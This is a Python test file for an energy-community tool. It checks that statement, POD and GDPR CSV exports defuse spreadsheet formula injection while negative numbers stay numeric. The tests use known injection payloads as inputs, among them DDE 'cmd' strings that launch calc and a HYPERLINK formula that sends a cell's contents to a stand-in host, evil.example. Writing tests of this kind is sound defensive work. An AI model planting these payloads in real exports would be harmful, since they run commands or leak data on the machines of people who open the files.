"""CSV formula injection (#13, finding 12): no text cell of a statement, POD or GDPR export starts with a
character a spreadsheet runs as a formula; numbers — negative ones too — stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from condivisa.auth.privacy import member_export, write_member_export
from condivisa.domain.config import load_community
from condivisa.formats.csv_safe import DANGEROUS, is_dangerous, safe_cell, safe_frame, safe_row
from condivisa.formats.urbandataset.types import Reading
from condivisa.outputs.result_text import to_csv
from condivisa.store.store import Store
from condivisa.transports.http.api import measurements_csv

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dcmd|' /C calc'!A0",
]
_BLANKS = " \u00a0\u3000\f\v"


def first_meaningful(text: str) -> str:
    stripped = text.lstrip(_BLANKS)
    return stripped[:1]


def is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower() not in ("nan", "inf", "-inf", "+inf", "infinity")


@given(st.text())
def test_no_text_cell_starts_with_a_formula_character(text):
    out = safe_cell(text)
    text = text.replace("\r\n", "\n").replace("\r", "\n")  # a lone CR would break the row
    assert isinstance(out, str)
    assert out == text or out == "'" + text  # only ever a quote in front
    if out == text and text:
        assert first_meaningful(text) not in DANGEROUS or is_plain_number(text.lstrip(_BLANKS))


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), st.none()))
def test_numbers_stay_numbers(value):
    assert safe_cell(value) is value


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_numbers_written_as_text_round_trip(value):
    text = repr(value) if isinstance(value, float) else str(value)
    assert safe_cell(text) == text and float(safe_cell(text)) == float(value)


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_known_attack_is_neutralised(attack):
    safe = "'" + attack.replace("\r", "\n")
    assert is_dangerous(attack) and safe_cell(attack) == safe
    assert safe_row([attack, -12.5, "-12.50"]) == [safe, -12.5, "-12.50"]


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_settlement_csv_neutralises_names_and_keeps_negative_money():
    doc = {
        "community": '=HYPERLINK("http://evil.example")',
        "members": [
            {"id": "m1", "name": attack, "category": "private", "fees_eur": -20.0, "total_eur": -7.25}
            for attack in ATTACKS
        ],
        "community_account": {"total_eur": -1.5},
        "external_producers": [{"id": "x", "name": "@SUM(A1:A9)", "total_eur": 3.0}],
    }
    rows = read(to_csv(doc))
    assert [r["name"] for r in rows[: len(ATTACKS)]] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert rows[len(ATTACKS)]["name"].startswith("'=") and rows[-1]["name"] == "'@SUM(A1:A9)"
    assert {r["fees_eur"] for r in rows[: len(ATTACKS)]} == {"-20.0"}  # numbers: no quote
    assert rows[len(ATTACKS)]["total_eur"] == "-1.5"


def test_pod_csv_neutralises_a_hostile_pod_code():
    frame = pd.DataFrame(
        {
            "pod": ["=cmd|' /C calc'!A0"],
            "start": [pd.Timestamp("2025-06-01 10:00", tz="Europe/Rome")],
            "withdrawn_kwh": [0.25],
            "injected_kwh": [0.0],
        }
    )
    rows = read(measurements_csv("x", frame).body.decode())
    assert rows[0]["pod"] == "'=cmd|' /C calc'!A0" and rows[0]["withdrawn_kwh"] == "0.25"
    assert rows[0]["start"] == "2025-06-01T10:00:00+02:00"


def test_gdpr_export_csv_neutralises_free_text(db_url, example_community_path, tmp_path):
    store = Store(db_url)
    store.upgrade()
    community = load_community(example_community_path)
    store.register_devices(community)
    t0 = dt.datetime(2024, 6, 3, 10, 0, tzinfo=dt.timezone.utc)
    store.ingest_records(
        [Reading("IT001E00000001", t0, 0.25, 0.0, du_id="DU-0001")], source="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    result = {"members": [{"id": "m1", "name": '=HYPERLINK("http://evil")', "total_eur": -3.2}]}
    export = member_export(store, community, "m1", result=result)
    files = write_member_export(export, tmp_path / "m1", "csv")
    readings, statements = read(files[1].read_text()), read(files[2].read_text())
    assert readings[0]["source"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and readings[0]["withdrawn_kwh"] == "0.25"
    assert statements[0]["name"] == '\'=HYPERLINK("http://evil")' and statements[0]["total_eur"] == "-3.2"
    for text in (files[1].read_text(), files[2].read_text()):
        for row in csv.reader(io.StringIO(text)):
            assert not any(is_dangerous(cell) for cell in row)
    store.close()


def test_safe_frame_leaves_numeric_columns_alone():
    frame = pd.DataFrame({"name": ["-x", "ok"], "eur": [-1.5, 2.0], "n": [-3, 4]})
    out = safe_frame(frame)
    assert list(out["name"]) == ["'-x", "ok"] and out["eur"].tolist() == [-1.5, 2.0]
    assert out["n"].dtype == frame["n"].dtype
